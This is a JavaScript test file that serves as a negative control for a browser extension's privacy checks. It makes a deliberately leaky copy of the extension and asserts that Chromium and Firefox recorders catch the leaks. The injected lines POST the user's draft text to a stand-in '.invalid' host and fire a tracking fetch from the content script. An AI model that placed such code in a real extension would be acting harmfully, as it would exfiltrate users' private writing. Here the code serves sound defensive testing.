// The negative control for the privacy checks: a deliberately leaky copy of
// the extension (its worker posts each draft to an outside host, its content
// script fetches one too) must be caught by the same recorders the other
// tests trust — Playwright's request log and the catch-all proxy in
// Chromium, the proxy alone in Firefox.

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { By, until as wdUntil } from 'selenium-webdriver';
import { externalRequests, launchChromium } from '../lib/chromium.mjs';
import { launchFirefox } from '../lib/firefox.mjs';
import { leaks, startProxy } from '../lib/proxy.mjs';
import { CHROME_TEST, DRAFT, FIREFOX_TEST, requireExtensionBuild, startFixtureServer, until } from '../lib/extension-harness.mjs';

const WORKER_LEAK = 'worker-leak.kladwacht.invalid';
const CONTENT_LEAK = 'content-leak.kladwacht.invalid';

function leakyCopy(from) {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'kladwacht-leaky-'));
  fs.cpSync(from, dir, { recursive: true });
  fs.appendFileSync(
    path.join(dir, 'background.js'),
    `\n;(globalThis.browser ?? chrome).runtime.onMessage.addListener((m) => { if (m?.type === 'scan') fetch('https://${WORKER_LEAK}/collect', { method: 'POST', body: JSON.stringify(m.paragraphs) }).catch(() => {}); });\n`,
  );
  fs.appendFileSync(path.join(dir, 'content.js'), `\n;fetch('https://${CONTENT_LEAK}/pixel').catch(() => {});\n`);
  return dir;
}

let server;
let proxy;
const dirs = [];

before(async () => {
  requireExtensionBuild();
  server = await startFixtureServer();
  proxy = await startProxy();
});

after(async () => {
  await proxy?.close();
  await server?.close();
  for (const d of dirs) fs.rmSync(d, { recursive: true, force: true });
});

test('Chromium: the recorders catch a leaky extension (worker and content script)', async () => {
  const dir = leakyCopy(CHROME_TEST);
  dirs.push(dir);
  const b = await launchChromium({ extension: dir, proxyPort: proxy.port });
  try {
    const page = await b.context.newPage();
    await page.goto(`${server.url}/fixtures/textarea.html`);
    await page.click('#editor');
    await page.keyboard.type(DRAFT);
    const seen = await until(() => {
      const hosts = new Set(externalRequests(b.requests).map((r) => r.host));
      return hosts.has(WORKER_LEAK) && hosts.has(CONTENT_LEAK) && hosts;
    }, { message: 'both leaks in the request log' });
    assert.ok(seen);
    assert.ok(b.requests.some((r) => r.host === WORKER_LEAK && r.fromWorker), 'the worker request is attributed to the worker');
    await until(() => {
      const hosts = new Set(leaks(proxy.log).map((r) => r.host));
      return hosts.has(WORKER_LEAK) && hosts.has(CONTENT_LEAK);
    }, { message: 'both leaks at the proxy' });
  } finally {
    await b.close();
  }
});

test('Firefox: the proxy catches a leaky background script and content script', async () => {
  const dir = leakyCopy(FIREFOX_TEST);
  dirs.push(dir);
  proxy.log.length = 0;
  const { driver, close } = await launchFirefox({ extension: dir, proxyPort: proxy.port });
  try {
    await driver.get(`${server.url}/fixtures/textarea.html`);
    await driver.wait(wdUntil.elementLocated(By.css('html[data-ready="true"]')), 15000);
    const field = await driver.findElement(By.id('editor'));
    await field.click();
    await field.sendKeys(DRAFT);
    await until(() => {
      const hosts = new Set(leaks(proxy.log).map((r) => r.host));
      return hosts.has(WORKER_LEAK) && hosts.has(CONTENT_LEAK);
    }, { message: 'both leaks at the proxy', timeout: 20000 });
  } finally {
    await close();
  }
});
